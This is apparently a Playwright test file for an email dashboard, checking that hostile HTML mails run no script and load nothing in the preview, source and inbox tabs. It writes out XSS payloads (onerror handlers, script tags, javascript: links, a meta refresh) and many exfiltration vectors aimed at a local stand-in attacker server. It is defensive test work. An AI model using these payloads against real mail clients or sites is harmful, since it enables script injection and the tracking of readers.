/** Mails that attack their readers: nothing leaves the preview, the source or the list. */

import { afterAll, beforeEach, describe, expect } from "bun:test";
import type { Page } from "playwright-core";
import { hasChromium } from "../support/browser.ts";
import { newProject } from "../support/dashboard-server.ts";
import { waitUntil } from "../support/eventually.ts";
import { beforePages, pageTest } from "../support/page-test.ts";
import { openEmails, send } from "./email-server.ts";
import { type InboxProject, openInbox, withInbox } from "./inbox-server.ts";

/** The server renders and signs 800 kB for a tab, also on a busy machine. */
const SLOW_MS = 25_000;

let server: InboxProject;
/** The server of an attacker, and the paths that were requested from it. */
let evil: ReturnType<typeof Bun.serve>;
let origin: string;
let stolen: string[];

beforePages(async () => {
  evil = Bun.serve({
    port: 0,
    fetch(request) {
      stolen.push(new URL(request.url).pathname);
      return new Response("<title>Evil</title>", { headers: { "Content-Type": "text/html" } });
    },
  });
  origin = `http://127.0.0.1:${evil.port}`;
  server = await withInbox(await newProject());
});
beforeEach(() => {
  stolen = [];
});
afterAll(async () => {
  if (!hasChromium) return;
  await evil.stop(true);
});

const SUBJECT = `<img src=x onerror="document.title='ran'">{{constructor}}`;

function hostileBody(base: string): string {
  const steal = `fetch('${base}/script');top.document.title='ran';top.location='${base}/moved'`;
  return `<!doctype html><html><head><meta http-equiv="refresh" content="0; url=${base}/refresh">
    <base href="${base}/base/" target="_top"><link rel="stylesheet" href="${base}/sheet">
    <link rel="preload" as="image" href="${base}/preload"><link rel="prefetch" href="${base}/prefetch">
    <link rel="preconnect" href="${base}">
    <style>@import "${base}/import"; @font-face { font-family: f; src: url(${base}/font) }
      p { font-family: f; background: url(${base}/background); color: rgb(1, 2, 3) }</style></head>
    <body onload="${steal}"><script>${steal}</script><script src="${base}/external"></script>
    <img src="${base}/image" srcset="${base}/set 2x" alt="" onerror="${steal}">
    <img src="data:image/png;base64,x" alt="" onerror="${steal}">
    <svg><image href="${base}/svg"/><use href="${base}/use#a"/><script>${steal}</script></svg>
    <video src="${base}/video" poster="${base}/poster" autoplay></video>
    <audio src="${base}/audio"></audio><input type="image" src="${base}/input">
    <object data="${base}/object"></object><embed src="${base}/embed">
    <iframe src="${base}/frame"></iframe>
    <table background="${base}/table"><tr><td style="background:url(${base}/style)">x</td></tr></table>
    <form action="${base}/form" target="_top">
      <button id="submit" formtarget="_top">Win a prize</button></form>
    <a id="script" href="javascript:${steal}" target="_top">Click here</a>
    <a id="link" href="${base}/link" target="_top" rel="opener" ping="${base}/ping">Link</a>
    <p id="text">The end of the mail</p></body></html>`;
}

/** Elements that would cover the page, or be wider than the window. */
const OVERSIZED = `
  <div style="position:fixed;inset:-9999px;z-index:2147483647;width:99999px">Overlay</div>
  ${"<table><tr><td>".repeat(100)}deep${"</td></tr></table>".repeat(100)}
  <table width="50000"><tr>${"<td>wide</td>".repeat(200)}</tr></table>`;

async function openTab(page: Page, name: string, text: string): Promise<void> {
  await page.getByRole("link", { name, exact: true }).click();
  await page.getByText(text).first().waitFor();
}

/** The browser tells what the policy and the sandbox of the frame refused, and of the empty image. */
function unexpected(problems: readonly string[]): string[] {
  const refusals = new RegExp(
    `Content Security Policy|sandbox|^request: ${origin}|Unsafe attempt to load URL|ERR_INVALID_URL`,
    "i",
  );
  return problems.filter((problem) => !refusals.test(problem));
}

describe("a hostile mail", () => {
  pageTest("that was sent runs nothing and loads nothing in any tab", async () => {
    const body = hostileBody(origin);
    const [id = ""] = await send(server, [{ to: "ada@example.com", subject: SUBJECT, body }]);
    const { page, problems, close } = await openEmails(server, `/emails?email=${id}`);
    const context = page.context();
    const tabs = context.pages().length;
    const frame = page.frameLocator("iframe");
    const text = frame.getByText("The end of the mail");
    await text.waitFor();
    // Its own styles work.
    const color = "getComputedStyle(document.querySelector('#text')).color";
    expect(await text.evaluate(color)).toBe("rgb(1, 2, 3)");
    await frame.getByText("Win a prize").click();
    await frame.getByText("Click here").click();
    await openTab(page, "Text", "The end of the mail");
    await openTab(page, "Source", "Content-Type");
    await openTab(page, "Headers", "Message-ID");
    await openTab(page, "Checks", "Structure and headers");
    await openTab(page, "Raw", "The bytes that were captured");
    expect(stolen).toEqual([]);
    expect(context.pages()).toHaveLength(tabs);

    // A link opens a tab that knows nothing of the page.
    await page.getByRole("link", { name: "Preview", exact: true }).click();
    const opening = context.waitForEvent("page");
    await frame.locator("#link").click();
    const opened = await opening;
    await waitUntil(() => stolen.includes("/link"));
    await opened.waitForLoadState();
    expect(await opened.evaluate("[window.opener, document.referrer, document.title]")).toEqual([
      null,
      "",
      "Evil",
    ]);
    await opened.close();
    expect(await page.title()).toStartWith("Emails");
    expect(new URL(page.url()).origin).toBe(server.url);
    expect(stolen.filter((path) => path !== "/favicon.ico")).toEqual(["/link"]);
    expect(unexpected(problems)).toEqual([]);
    await close();
  });

  pageTest("that was captured stays in its frame, and shows its images when asked", async () => {
    const html = hostileBody(origin) + OVERSIZED;
    await server.mail([{ subject: SUBJECT, html, text: "<script>1</script>" }]);
    const { page, problems, overflowPx, close } = await openInbox(server);
    await page.locator(".inbox-row").first().click();
    const frame = page.frameLocator("iframe");
    await frame.locator("#text").waitFor({ state: "attached" });
    const { pathname } = new URL(page.url());
    await frame.locator("#submit").dispatchEvent("click");
    await frame.locator("#script").dispatchEvent("click");
    for (const tab of ["Text", "Source", "Headers", "Links", "Checks", "HTML"]) {
      await page.getByRole("link", { name: tab, exact: true }).click();
      await page.locator(".message-panel > *").first().waitFor();
    }
    await frame.locator("#text").waitFor({ state: "attached" });
    expect(new URL(page.url()).pathname).toBe(pathname);
    expect(stolen).toEqual([]);
    expect(await overflowPx()).toBe(0);
    // Images are loaded when they are asked for, and nothing else.
    await page.getByRole("button", { name: "Show images" }).click();
    await waitUntil(() => IMAGES.every((path) => stolen.includes(path)));
    await frame.locator("#text").waitFor({ state: "attached" });
    expect(stolen.filter((path) => !IMAGES.includes(path))).toEqual([]);
    expect(await page.title()).toStartWith("Inbox");
    expect(unexpected(problems)).toEqual([]);
    await close();
  });

  pageTest("of 50,000 nested tables is shown in part, and the page stays usable", async () => {
    // More than a preview shows, and more lines than the document may have.
    const tables = "<table><tr><td>\n".repeat(1_000);
    const body = `<p>The start of the mail</p>{% for i in (1..50) %}${tables}{% endfor %}`;
    const [id = ""] = await send(server, [{ to: "ada@example.com", subject: "Tables", body }]);
    const path = `/emails?email=${id}&tab=source`;
    const { page, problems, close } = await openEmails(server, path);
    await page.getByText(/[\d,]{5,} lines/).waitFor({ timeout: SLOW_MS });
    expect(await page.locator(".message-line").count()).toBeLessThan(80);
    await page.getByRole("link", { name: "Preview", exact: true }).click();
    await page.frameLocator("iframe").getByText("The start of the mail").waitFor({
      timeout: SLOW_MS,
    });
    await page.getByRole("link", { name: "Timeline", exact: true }).click();
    await page.getByText("Accepted and queued").waitFor();
    expect(problems).toEqual([]);
    await close();
  });
});

/** Paths of the images in the mail. */
const IMAGES = ["/image", "/svg", "/background", "/poster", "/input", "/table", "/style"];
